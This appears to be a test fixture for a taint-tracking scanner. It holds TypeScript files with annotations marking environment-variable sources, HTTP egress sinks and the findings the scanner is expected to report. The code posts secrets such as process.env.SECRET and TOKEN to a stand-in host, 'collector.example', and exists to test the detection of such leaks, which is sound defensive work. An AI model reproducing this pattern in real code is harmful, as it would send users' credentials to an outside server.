// --- path: api.ts ---
export interface Options { url: string; payload?: unknown }
export class Api {
  constructor(private readonly base: string, private token?: string) {}
  post(data: unknown): Promise<Response> { return fetch(this.base, { body: data as string }); } //~ sink(egress.http) f1, finding(traced) f1
  auth(): Promise<Response> { return fetch(this.base, { headers: { Authorization: this.token! } }); } //~ sink(egress.http) f2, finding(traced) f2
  ping(data: unknown): Promise<Response> { return fetch(this.base, { body: 'ping' }); } //~ ok
}
// --- path: main.ts ---
import { Api } from './api.js';
function run(api: Api, value: string): void { api.post(value); api.ping(value); }
const api = new Api('https://collector.example/t', process.env.TOKEN); //~ source(ENVIRONMENT) f2
run(api, process.env.SECRET ?? ''); //~ source(ENVIRONMENT) f1
api.auth();
// --- path: clients.ts ---
// A type of a library that no rule speaks of says less than what is put there.
import axios, { AxiosInstance } from "axios";
import { Unknown } from "some-library";

export class Client {
  private http: AxiosInstance;
  private other: Unknown;
  constructor() {
    this.http = axios.create({ baseURL: "https://collector.example" });
    this.other = new Unknown();
  }
  send(data: unknown) {
    return this.http.post("/x", data); //~ sink(egress.http) fclient, finding(traced) fclient
  }
  keep(data: unknown) {
    this.other.keep(data); //~ ok
  }
}

export function report() {
  const client = new Client();
  client.send(process.env.T); //~ source(ENVIRONMENT) fclient
  client.keep(process.env.T);
  const local: AxiosInstance = axios.create();
  local.put("https://collector.example/y", process.env.V); //~ source(ENVIRONMENT) fclient2, sink(egress.http) fclient2, finding(traced) fclient2
}
